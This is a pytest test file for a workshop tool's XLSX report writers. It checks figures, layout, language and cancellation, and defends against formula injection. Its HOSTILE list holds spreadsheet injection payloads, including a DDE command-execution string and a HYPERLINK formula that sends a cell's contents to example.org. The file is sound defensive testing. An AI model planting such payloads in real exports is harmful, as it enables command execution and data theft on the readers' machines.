"""The XLSX reports: the full results workbook and the technical-assistance workbook, written
for real, loaded back with openpyxl (and LibreOffice where installed), checked against
`workshop.analysis.summarize`; hostile text comes back as text, never as a formula."""

from __future__ import annotations

import csv
import shutil
import subprocess
from collections import Counter
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from workshop import __version__
from workshop.analysis import summarize
from workshop.errors import WorkshopError
from workshop.file.model import (
    ASSISTANCE_TYPES,
    PRIORITIES,
    SEXES,
    STATUSES,
    ActionItem,
    Assessment,
    AssistanceNeed,
    Consensus,
    Gap,
    Institution,
    Participant,
    WorkingGroup,
    new_uuid,
)
from workshop.file.store import WorkshopFile
from workshop.languages.i18n import tr
from workshop.reports import write_report
from workshop.reports.full_xlsx import META_SHEET

HOSTILE = ["=1+1", '=HYPERLINK("http://example.org/x?d="&A1,"Official text")', "+33 1 23 45",
           "-5 per cent", "@SUM(A1:A2)", "\tTabbed", "\rCarriage return", "\nLine feed",
           "=cmd|' /C calc'!A0"]


def rows(sheet: Any) -> list[dict[str, Any]]:
    """A table sheet's data rows as {header: value}."""
    values = list(sheet.iter_rows(values_only=True))
    header = values[0]
    return [dict(zip(header, row, strict=True)) for row in values[1:]]


def meta(workbook: Any) -> dict[str, Any]:
    sheet = workbook[META_SHEET]
    return {row[0]: row[1] for row in sheet.iter_rows(values_only=True)
            if row[0] not in ("sheet", "row")}


def no_formulas(path: Path) -> None:
    workbook = openpyxl.load_workbook(path)
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)


@pytest.fixture(scope="module")
def demo_reports(demo_master: Path, tmp_path_factory: pytest.TempPathFactory
                 ) -> tuple[Path, Path, dict[str, Any]]:
    folder = tmp_path_factory.mktemp("reports")
    full = write_report(demo_master, "full", "xlsx", folder / "full.xlsx")
    ta = write_report(demo_master, "ta", "xlsx", folder / "ta.xlsx")
    with WorkshopFile.open(demo_master, read_only=True) as store:
        summary = summarize(store)
        summary["participant_names"] = [p.name for p in store.records(Participant) if p.name]
    return full, ta, summary


def check_full_against_summary(path: Path, summary: dict[str, Any]) -> None:
    """Every sheet of the full workbook agrees with the figures of `summarize`."""
    n = summary["counts"]
    workbook = openpyxl.load_workbook(path)
    assert workbook.sheetnames == ["Workshop", "Commitments", "Consensus by chapter",
                                   "Group assessments", "Gaps", "Needs", "Actions",
                                   "Institutions", "Participation", "Session notes",
                                   META_SHEET]
    commitments = rows(workbook["Commitments"])
    assert len(commitments) == n["commitments_in_scope"]
    shown = Counter(r["Consensus status"] for r in commitments)
    for code, label in STATUSES.items():
        assert shown[label] == n["consensus_status"][code]
    assert shown["Not assessed"] == n["commitments_in_scope"] - n["commitments_with_consensus"]
    assert sum(1 for r in commitments if r["Dissent"]) == n["dissents"]
    assert sum(r["Gaps"] for r in commitments) <= n["gaps"]

    by_chapter = rows(workbook["Consensus by chapter"])
    for row in by_chapter[:-1]:
        number = str(row["Chapter"]).split(".")[0]
        expected = n["consensus_by_chapter"][number]
        assert [row[STATUSES[c]] for c in STATUSES] == [expected[c] for c in STATUSES]
        assert row["Not assessed"] == expected["not_assessed"]
    total = by_chapter[-1]
    assert [total[STATUSES[c]] for c in STATUSES] == [n["consensus_status"][c] for c in STATUSES]
    assert total["Total"] == n["commitments_in_scope"]

    assert len(rows(workbook["Group assessments"])) == n["group_assessments"]
    gaps = rows(workbook["Gaps"])
    assert len(gaps) == n["gaps"]
    assert Counter(g["Priority"] for g in gaps) == {
        PRIORITIES[p]: v for p, v in n["gaps_by_priority"].items() if v}
    needs = rows(workbook["Needs"])
    assert len(needs) == n["assistance_needs"]
    assert Counter(r["Type of assistance"] for r in needs) == {
        ASSISTANCE_TYPES[t]: v for t, v in n["assistance_needs_by_type"].items() if v}
    assert len(rows(workbook["Actions"])) == n["action_items"]
    institutions = rows(workbook["Institutions"])
    assert len(institutions) == n["institutions"]
    assert sum(r["Participants"] for r in institutions) == n["participants"]
    for code, label in SEXES.items():
        assert sum(r[label] for r in institutions) == n["participants_by_sex"][code]
    participation = {}
    for row in workbook["Participation"].iter_rows(min_row=2, values_only=True):
        if not row[0]:
            break  # the first table: by sex
        participation[row[0]] = row[1]
    for code, label in SEXES.items():
        assert participation[label] == n["participants_by_sex"][code]
    assert participation["Total"] == n["participants"]

    cover = {row[0]: row[1] for row in workbook["Workshop"].iter_rows(values_only=True)}
    assert cover["Participants"] == n["participants"]
    assert cover["Gaps"] == n["gaps"]
    assert cover["Technical-assistance needs"] == n["assistance_needs"]
    assert cover["Commitments with a consensus"] == n["commitments_with_consensus"]
    assert cover["Revision of the workshop file"] == summary["workshop"]["revision"]

    identity = meta(workbook)
    assert workbook[META_SHEET].sheet_state == "hidden"
    assert identity["workshop_id"] == summary["workshop"]["id"]
    assert identity["revision"] == summary["workshop"]["revision"]
    assert identity["catalog_id"] == summary["catalog"]["id"]
    assert identity["catalog_version"] == summary["catalog"]["version"]
    assert identity["catalog_hash"] == summary["catalog"]["hash"]
    assert identity["app_version"] == __version__


def test_full_workbook_of_the_demo_agrees_with_summarize(demo_reports) -> None:
    full, _ta, summary = demo_reports
    assert summary["counts"]["gaps"] > 0 and summary["counts"]["dissents"] > 0
    check_full_against_summary(full, summary)


def test_full_workbook_is_laid_out_for_reading_and_review(demo_reports) -> None:
    full, _ta, summary = demo_reports
    workbook = openpyxl.load_workbook(full)
    for name in ("Commitments", "Group assessments", "Gaps", "Needs", "Actions", "Institutions"):
        sheet = workbook[name]
        assert sheet.freeze_panes == "A2", name
        assert sheet.auto_filter.ref == f"A1:{sheet.cell(1, sheet.max_column).column_letter}" \
            f"{sheet.max_row}", name
        assert all(cell.font.b for cell in sheet[1])
        widths = [sheet.column_dimensions[c.column_letter].width for c in sheet[1]]
        assert all(6 <= w <= 60 for w in widths), (name, widths)
    for name in ("Commitments", "Gaps", "Needs"):
        sheet = workbook[name]
        header = [c.value for c in sheet[1]]
        assert header[-2:] == ["Reviewer's view", "Reviewer's comment"]
        view, comment = (sheet.cell(1, len(header) - 1).column_letter,
                         sheet.cell(1, len(header)).column_letter)
        validations = {str(dv.sqref): dv for dv in sheet.data_validations.dataValidation}
        listed = validations[f"{view}2:{view}{sheet.max_row}"]
        assert listed.type == "list" and listed.formula1 == '"agree,disagree,comment"'
        assert validations[f"{comment}2:{comment}{sheet.max_row}"].type == "textLength"
    commitments = workbook["Commitments"]
    rules = commitments.conditional_formatting
    ranges = [str(r.sqref) for r in rules]
    assert ranges == [f"E2:E{commitments.max_row}"]
    formulas = {rule.formula[0] for r in rules for rule in r.rules}
    assert formulas == {f'"{label}"' for label in STATUSES.values()}
    cover = workbook["Workshop"]
    labels = [row[0] for row in cover.iter_rows(values_only=True)]
    assert "Reviewer's name" in labels and "Date of review (YYYY-MM-DD)" in labels
    actions = workbook["Actions"]
    deadline = [c.value for c in actions[1]].index("Deadline") + 1
    assert actions.cell(2, deadline).is_date
    names = summary["participant_names"]
    assert names
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows(values_only=True):
            for value in row:
                if isinstance(value, str):
                    assert not any(name in value for name in names), (sheet.title, value)
    no_formulas(full)


def test_ta_workbook_groups_needs_and_agrees_with_summarize(demo_reports) -> None:
    _full, ta, summary = demo_reports
    n = summary["counts"]
    workbook = openpyxl.load_workbook(ta)
    assert workbook.sheetnames == ["Workshop", "Needs", "By type and priority",
                                   "By chapter and priority"]
    needs = rows(workbook["Needs"])
    assert len(needs) == n["assistance_needs"]
    types = list(ASSISTANCE_TYPES.values())
    priorities = list(PRIORITIES.values())
    keys = [(types.index(r["Type of assistance"]), int(r["Chapter"].split(".")[0]),
             priorities.index(r["Priority"])) for r in needs]
    assert keys == sorted(keys)
    sheet = workbook["Needs"]
    starts = [i for i in range(1, len(keys)) if keys[i][0] != keys[i - 1][0]]
    assert starts and all(sheet.cell(i + 2, 1).border.top.style == "medium" for i in starts)
    assert sheet.cell(3, 1).border.top.style is None or 1 in starts
    assert all(r["Requesting institution"] and r["Preferred providers"] and r["Timeframe"]
               for r in needs)
    by_type = rows(workbook["By type and priority"])
    for row in by_type[:-1]:
        code = next(c for c, label in ASSISTANCE_TYPES.items()
                    if label == row["Type of assistance"])
        assert row["Total"] == n["assistance_needs_by_type"][code]
    for code, label in PRIORITIES.items():
        assert by_type[-1][label] == n["assistance_needs_by_priority"][code]
        assert sum(r[label] for r in rows(workbook["By chapter and priority"])[:-1]) \
            == n["assistance_needs_by_priority"][code]
    assert by_type[-1]["Total"] == n["assistance_needs"]
    no_formulas(ta)


def test_workbooks_of_an_empty_workshop(fresh_workshop: WorkshopFile, tmp_path: Path) -> None:
    fresh_workshop.close()
    summary_store = WorkshopFile.open(fresh_workshop.path, read_only=True)
    summary = summarize(summary_store)
    summary_store.close()
    full = write_report(fresh_workshop.path, "full", "xlsx", tmp_path / "full.xlsx")
    check_full_against_summary(full, summary)
    workbook = openpyxl.load_workbook(full)
    assert rows(workbook["Gaps"]) == []
    assert {r["Consensus status"] for r in rows(workbook["Commitments"])} == {"Not assessed"}
    ta = write_report(fresh_workshop.path, "ta", "xlsx", tmp_path / "ta.xlsx")
    needs = openpyxl.load_workbook(ta)["Needs"]
    assert needs.max_row == 1
    no_formulas(full)
    no_formulas(ta)


def hostile_workshop(path: Path, catalog: Any) -> Path:
    """A workshop whose every text field starts like a formula (and one holds a NUL)."""
    with WorkshopFile.create(path, catalog, country="KE", title="=TITLE()",
                             venue="@venue", documents=["2016"]) as store:
        cid = store.commitments_in_scope()[0]
        group = WorkingGroup(uuid=new_uuid(), name=HOSTILE[2])
        store.add(group)
        institutions = []
        for text in HOSTILE:
            institution = Institution(uuid=new_uuid(), name=text, acronym=text[:3])
            store.add(institution)
            institutions.append(institution)
        store.add(Assessment(uuid=new_uuid(), group_uuid=group.uuid, commitment_id=cid,
                             status="2", measures=HOSTILE[3], evidence=HOSTILE[4],
                             notes="nul\x00inside"))
        store.add(Consensus(uuid=new_uuid(), commitment_id=cid, status="1", dissent=HOSTILE[5],
                            notes=HOSTILE[6]))
        for i, text in enumerate(HOSTILE):
            gap = Gap(uuid=new_uuid(), commitment_id=cid, description=text, priority="high",
                      rank=i + 1)
            store.add(gap)
            store.add(AssistanceNeed(uuid=new_uuid(), commitment_id=cid,
                                     assistance_type="training", description=text,
                                     gap_uuid=gap.uuid, institution_uuid=institutions[i].uuid,
                                     providers=text, timeframe=text))
            store.add(ActionItem(uuid=new_uuid(), description=text, commitment_id=cid,
                                 gap_uuid=gap.uuid, partners=text, deadline=text,
                                 indicator=text))
    return path


def test_formula_like_text_comes_back_as_text(tmp_path: Path, catalog: Any) -> None:
    source = hostile_workshop(tmp_path / "hostile.workshop", catalog)
    full = write_report(source, "full", "xlsx", tmp_path / "full.xlsx")
    ta = write_report(source, "ta", "xlsx", tmp_path / "ta.xlsx")
    no_formulas(full)
    no_formulas(ta)
    workbook = openpyxl.load_workbook(full)

    def strings(name: str, column: str) -> list[str]:
        sheet = workbook[name]
        index = [c.value for c in sheet[1]].index(column) + 1
        cells = [sheet.cell(row, index) for row in range(2, sheet.max_row + 1)]
        assert all(c.data_type == "s" for c in cells), [(c.value, c.data_type) for c in cells]
        return [c.value for c in cells]

    expected = sorted(t.replace("\r", "\n") for t in HOSTILE)  # as any XML reader reads CR
    assert sorted(strings("Gaps", "Gap")) == expected
    assert sorted(strings("Needs", "Need")) == expected
    assert sorted(strings("Needs", "Preferred providers")) == expected
    assert sorted(strings("Actions", "Action")) == expected
    assert sorted(strings("Actions", "Deadline")) == expected
    assert sorted(strings("Institutions", "Institution")) == expected
    assert "\r" not in "".join(strings("Gaps", "Gap"))
    assert strings("Group assessments", "Measures") == [HOSTILE[3]]
    assert strings("Group assessments", "Notes") == ["nul\ufffdinside"]
    dissent = workbook["Commitments"]["F2"]
    assert (dissent.value, dissent.data_type) == (HOSTILE[5], "s")
    cover = [row[0] for row in workbook["Workshop"].iter_rows(values_only=True)]
    assert "=TITLE()" in cover
    ta_book = openpyxl.load_workbook(ta)
    needs = rows(ta_book["Needs"])
    assert sorted(r["Requesting institution"] for r in needs) == sorted(
        f"{t} ({t[:3]})".replace("\r", "\n") for t in HOSTILE)


def test_a_cancel_between_sheets_leaves_no_file(demo_master: Path, tmp_path: Path) -> None:
    calls: list[tuple[int, int]] = []

    def progress(done: int, total: int) -> None:
        calls.append((done, total))
        if done == 3:
            raise KeyboardInterrupt  # what a cancel from the GUI looks like to the writer

    out = tmp_path / "full.xlsx"
    with pytest.raises(KeyboardInterrupt):
        write_report(demo_master, "full", "xlsx", out, progress=progress)
    assert not out.exists() and list(tmp_path.iterdir()) == []
    assert calls == [(0, 11), (1, 11), (2, 11), (3, 11)]


def test_the_labels_follow_the_language(demo_master: Path, tmp_path: Path,
                                        monkeypatch: pytest.MonkeyPatch) -> None:
    import workshop.languages.i18n as i18n

    table = {"Gaps": "Lacunes", "Priority": "Priorité", "High": "Élevée",
             "Reviewer's view": "Avis du relecteur"}
    monkeypatch.setattr(i18n, "_table", lambda language: table if language == "fr" else {})
    out = write_report(demo_master, "full", "xlsx", tmp_path / "fr.xlsx", language="fr")
    workbook = openpyxl.load_workbook(out)
    sheet = workbook["Lacunes"]
    header = [c.value for c in sheet[1]]
    assert "Priorité" in header and "Avis du relecteur" in header
    assert "Élevée" in {r["Priorité"] for r in rows(sheet)}
    assert meta(workbook)["language"] == "fr"
    assert tr("Gaps", "en") == "Gaps"


def test_an_unwritable_target_is_one_sentence(demo_master: Path, tmp_path: Path) -> None:
    with pytest.raises(WorkshopError) as error:
        write_report(demo_master, "full", "xlsx", tmp_path / "missing" / "full.xlsx")
    assert "\n" not in str(error.value) and "full.xlsx" in str(error.value)


def soffice_csv(path: Path, out: Path) -> dict[str, list[list[str]]]:
    """Every sheet of a workbook as CSV rows, converted by LibreOffice."""
    out.mkdir()
    options = "44,34,76,1,,0,false,true,false,false,false,-1"  # UTF-8, every sheet
    subprocess.run(["soffice", "--headless", f"-env:UserInstallation=file://{out}/profile",
                    "--convert-to", f"csv:Text - txt - csv (StarCalc):{options}",
                    "--outdir", str(out), str(path)], check=True, capture_output=True,
                   timeout=180)
    sheets = {}
    for file in out.glob(f"{path.stem}-*.csv"):
        with file.open(encoding="utf-8", newline="") as handle:
            sheets[file.stem[len(path.stem) + 1:]] = list(csv.reader(handle))
    return sheets


@pytest.mark.skipif(shutil.which("soffice") is None,
                    reason="LibreOffice (soffice) is not installed: apt-get install "
                           "libreoffice-calc-nogui to run this test")
def test_libreoffice_reads_the_workbook_as_written(tmp_path: Path, catalog: Any,
                                                   demo_reports) -> None:
    full, _ta, summary = demo_reports
    sheets = soffice_csv(full, tmp_path / "demo")
    commitments = sheets["Commitments"]
    assert commitments[0][:5] == ["Id", "Chapter", "Reference", "Commitment", "Consensus status"]
    assert len(commitments) - 1 == summary["counts"]["commitments_in_scope"]
    shown = Counter(row[4] for row in commitments[1:])
    for code, label in STATUSES.items():
        assert shown[label] == summary["counts"]["consensus_status"][code]
    assert len(sheets["Gaps"]) - 1 == summary["counts"]["gaps"]

    source = hostile_workshop(tmp_path / "hostile.workshop", catalog)
    hostile = write_report(source, "full", "xlsx", tmp_path / "hostile.xlsx")
    sheets = soffice_csv(hostile, tmp_path / "hostile")
    gaps = sheets["Gaps"]
    column = gaps[0].index("Gap")
    # LibreOffice evaluates formulas; had any text become one, its result would show instead.
    assert sorted(row[column] for row in gaps[1:]) == sorted(
        t.replace("\r", "\n") for t in HOSTILE)
